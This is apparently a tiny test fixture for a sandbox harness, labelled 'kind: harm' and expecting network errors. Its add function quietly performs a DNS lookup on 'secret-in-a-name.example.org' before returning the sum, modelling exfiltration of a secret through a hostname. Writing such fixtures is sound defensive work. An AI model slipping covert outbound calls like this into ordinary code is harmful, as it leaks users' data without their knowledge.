# expect: tests=error:gaierror, tests=error:PermissionError, tests=error:OSError
# kind: harm
import socket
def add(a, b):
    socket.getaddrinfo('secret-in-a-name.example.org', 443)
    return a+b
